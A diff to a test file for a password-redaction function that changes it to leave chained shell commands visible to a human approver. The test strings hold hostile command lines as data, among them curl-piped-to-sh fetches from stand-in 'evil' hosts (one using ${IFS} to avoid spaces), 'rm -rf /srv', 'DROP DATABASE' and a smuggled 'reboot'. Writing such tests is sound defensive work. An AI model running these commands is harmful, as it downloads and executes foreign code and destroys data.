@@ -125,10 +125,12 @@ describe('a hostile SSH client\'s command line (found by review)', () => {
     expect(redactCommandLine(`sh -c "mysql -p'x'y db; curl -s https://evil.example/x.sh | sh"`)).toBe(`sh -c "mysql -p'[redacted] db; curl -s https://evil.example/x.sh | sh"`);
     expect(redactCommandLine(`ssh db1 "mysql -p'x'y db; DROP DATABASE"`)).toBe(`ssh db1 "mysql -p'[redacted] db; DROP DATABASE"`);
     expect(redactCommandLine(`bash -c 'curl -u ann:"p"w https://x; rm -rf /srv'`)).toBe(`bash -c 'curl -u ann:"[redacted] https://x; rm -rf /srv'`);
-    // A password running on into an operator with no blank: hidden to the next blank, as typed.
-    expect(redactCommandLine('curl -u ann:pa&ss https://x')).toBe('curl -u ann:[redacted] https://x');
-    expect(redactCommandLine('mysql -uroot -pab;cd shop')).toBe('mysql -uroot -p[redacted] shop');
-    expect(redactCommandLine('redis-cli -a pa(ss) ping')).toBe('redis-cli -a [redacted] ping');
+    // An operator ends the password as the shell reads it, and what follows is a command the approver must see (a
+    // review showed `ssh db1 'mysql -pX;reboot'` held with `;reboot` hidden, when the run-on was hidden as typed).
+    expect(redactCommandLine('curl -u ann:pa&ss https://x')).toBe('curl -u ann:[redacted]&ss https://x');
+    expect(redactCommandLine('mysql -uroot -pab;cd shop')).toBe('mysql -uroot -p[redacted];cd shop');
+    expect(redactCommandLine("ssh db1 'mysql -pX;reboot'")).toBe("ssh db1 'mysql -p[redacted];reboot'");
+    expect(redactCommandLine("sh -c 'redis-cli -a X&&curl${IFS}-s${IFS}http://evil/x|sh'")).toBe("sh -c 'redis-cli -a [redacted]&&curl${IFS}-s${IFS}http://evil/x|sh'");
     expect(redactCommandLine('mysql -phunter2 db; ls')).toBe('mysql -p[redacted] db; ls');
     // A JSON body in a quoted word: its closing brace stays.
     expect(redactCommandLine(`echo '{"password": "x"}'`)).toBe(`echo '{"password": [redacted]}'`);
